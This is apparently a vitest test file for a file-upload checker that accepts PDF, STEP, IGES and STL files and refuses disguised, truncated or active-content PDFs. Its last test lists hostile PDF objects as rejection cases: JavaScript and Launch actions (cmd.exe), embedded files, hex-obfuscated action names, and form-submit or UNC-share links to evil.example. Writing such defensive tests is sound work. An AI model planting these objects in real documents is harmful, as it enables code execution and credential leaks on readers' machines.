import { expect, test } from 'vitest';
import { composeIges, composePdf, composeStep, composeStl } from '#test/support/model-bytes.ts';
import { createFileCheck } from './check-request-file.ts';
import type { RequestFileType } from './request-file.ts';

/** What is said of bytes that come in pieces. */
function judge(type: RequestFileType, bytes: Uint8Array, pieceBytes = 64): string | null {
  const check = createFileCheck(type);
  for (let at = 0; at < bytes.length; at += pieceBytes) check.see(Buffer.from(bytes.subarray(at, at + pieceBytes)));
  return check.judge(bytes.length);
}
const text = (words: string) => new TextEncoder().encode(words);
/** As long as what a reader looks for may be away from the edge, and longer. */
const filler = (length: number) => ' '.repeat(length);

test.each<readonly [RequestFileType, Uint8Array]>([
  ['pdf', composePdf()],
  ['pdf', text(`${filler(900)}${new TextDecoder().decode(composePdf())}${filler(900)}`)],
  ['pdf', composePdf('<< /Filter /Standard /Encrypt 5 0 R /Title (JavaScript and Launch) >>')],
  ['pdf', composePdf('<< /S /URI /URI (https://example.com/a) >> << /URI(mailto:ada@example.com) >> << /URI (www.example.com:80/a) >>')],
  ['pdf', composePdf('<< /S /URI /URI <68747470733a2f2f> /Font << /XFAB 1 0 R /GoToRome 2 0 R >> /URI << /Base (https://x.example) >> >>')],
  ['pdf', text(`@PJL ENTER LANGUAGE = PDF\r\n${new TextDecoder().decode(composePdf())}`)],
  ['step', composeStep()],
  ['iges', composeIges()],
  ['stl', composeStl()],
])('DESK-09 S-20 a %s is taken that is one', (type, bytes) => {
  for (const pieceBytes of [1, 7, 64, 100_000]) expect(judge(type, bytes, pieceBytes)).toBeNull();
});

test.each<readonly [string, RequestFileType, Uint8Array, string]>([
  ['a web page', 'pdf', text('<html><script>alert(1)</script></html>'), 'a web page'],
  ['a web page with a PDF in it', 'pdf', text(`<!doctype html><script>x</script>${new TextDecoder().decode(composePdf())}`), 'a web page'],
  ['a ZIP archive', 'pdf', text('PK\x03\x04 and so on'), 'a ZIP archive'],
  ['text', 'pdf', text('Hello'), 'something else'],
  ['a PDF that begins too late', 'pdf', text(`${filler(1100)}${new TextDecoder().decode(composePdf())}`), 'something else'],
  ['a PDF that is cut short', 'pdf', composePdf().subarray(0, 60), 'cut short'],
  ['a PDF with an end too early', 'pdf', text(`${new TextDecoder().decode(composePdf())}${filler(1100)}`), 'cut short'],
  ['a PDF named as STEP', 'step', composePdf(), 'PDF'],
  ['a STEP file named as IGES', 'iges', composeStep(), 'STEP'],
])('DESK-09 S-20 %s is refused in words', (_what, type, bytes, words) => {
  expect(judge(type, bytes)).toContain(words);
});

test.each([
  '<< /S /JavaScript /JS (app.alert(1)) >>',
  '<< /S /Launch /F (cmd.exe) >>',
  '<< /Type /EmbeddedFile >>',
  '<< /Names << /EmbeddedFiles 5 0 R >> >>',
  '<< /S /J#61vaScript >>',
  '<< /S /#4C#61#75#6e#63#68 >>',
  '<< /S /SubmitForm /F (https://evil.example) >>',
  '<< /S/GoToR/F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>',
  '<< /Subtype /RichMedia >>',
  '<< /AcroForm << /XFA 5 0 R >> >>',
  '<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>',
  '<< /S /URI /URI (file://evil.example/share) >>',
  '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
  '<< /S /U#52I /URI(//evil.example/share) >>',
  '<< /S /URI /URI <5c5c6576696c> >>',
])('DESK-09 a PDF that acts or carries files is refused, however it comes: %s', (object) => {
  const bytes = composePdf(object);
  for (const pieceBytes of [1, 5, 33, 100_000]) expect(judge('pdf', bytes, pieceBytes)).toContain('print it into a new PDF');
});
